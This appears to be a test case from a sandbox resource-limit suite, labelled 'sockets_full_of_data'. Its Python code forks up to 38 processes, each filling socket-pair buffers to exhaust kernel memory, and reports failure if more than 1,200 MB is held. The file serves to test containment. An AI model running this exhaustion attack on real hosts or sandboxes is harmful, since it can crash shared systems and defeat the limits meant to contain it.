# attack: sockets_full_of_data
# kind: exhaust
# tries: fills the buffers of as many sockets as it can open, in as many processes as it can start: memory of the kernel's
# seen: they hold more than twice the limit of 600 MB
# deserves: nothing
# extra: before 3.2a
# %%
import os, socket, time

counted, tell = os.pipe()
piece = bytes(2**16)
for _ in range(38):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        kept = []
        try:
            while True:
                ends = socket.socketpair()
                kept.append(ends)
                filled = 0
                for end in ends:
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
                    end.setblocking(False)
                    try:
                        while True:
                            filled += end.send(piece)
                    except BlockingIOError:
                        pass
                os.write(tell, b'x' * (filled // 2**16))
        except OSError:
            pass
        time.sleep(20)
        os._exit(0)
os.set_blocking(counted, False)
held = 0

def look(seconds):
    global held
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        time.sleep(0.1)
        try:
            while found := len(os.read(counted, 10_000)):
                held += found
        except BlockingIOError:
            pass
        if held / 16 > 1_200:
            raise RuntimeError(f"FELL: sockets hold {held // 16} MB")
# extra: before 3.2a
# %%
look(2.5)
# extra: before 3.2a
# %%
look(2.5)
# extra: before 3.2a
# %%
look(2.5)
